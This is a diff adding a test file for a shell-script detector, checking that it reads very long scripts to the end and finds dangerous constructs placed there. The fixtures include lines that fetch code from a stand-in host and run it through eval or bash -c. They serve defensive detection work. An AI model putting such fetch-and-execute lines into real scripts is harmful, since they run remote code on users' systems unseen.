@@ -1,0 +1,29 @@
+import { describe, expect, it } from "vitest";
+import { longScript } from "../../bench/scripts.js";
+import { sharedDetector } from "../support/marked.js";
+import { assertSound } from "./invariants.js";
+
+/** Commands behind the functions of a script: the marked one is reached through functions that were called many times before. */
+const endings: Readonly<Record<string, string>> = {
+  "a function that fetches": '«eval "$(_fetch https://depot.example/x)"»\n',
+  "a function that executes what it is given": '_run() {\n  «eval "$1"»\n}\n_run "echo one"\n_run "$two"\n_run "$(_fetch https://depot.example/x)"\n',
+  "a variable that another function sets": '_begin() {\n  «eval "$_program"»\n}\n_begin\n_program="$(_fetch https://depot.example/x)"\n_begin\n',
+  "words behind those that are gone": '_later() {\n  _first="$1"\n  shift\n  «bash -c "$1"»\n}\n_later one two\n_later one "$(_fetch https://depot.example/x)"\n',
+};
+
+describe("long scripts", { timeout: 120_000 }, () => {
+  it.each([31_000, 250_000])("a script of %i characters is read to its end", async (size) => {
+    const text = longScript(size);
+    const detection = (await sharedDetector()).detect(text);
+    assertSound(text, detection);
+    expect(detection.outcome).toEqual({ status: "complete" });
+    expect(detection.spans).toEqual([]);
+  });
+
+  it.each(Object.entries(endings))("%s at its end is found", async (_, marked) => {
+    const text = longScript(250_000, marked.replace(/[«»]/g, ""));
+    const { findings, outcome } = (await sharedDetector()).detect(text);
+    expect(outcome).toEqual({ status: "complete" });
+    expect(findings.map((finding) => finding.text)).toEqual([/«(.*)»/.exec(marked)?.[1]]);
+  });
+});
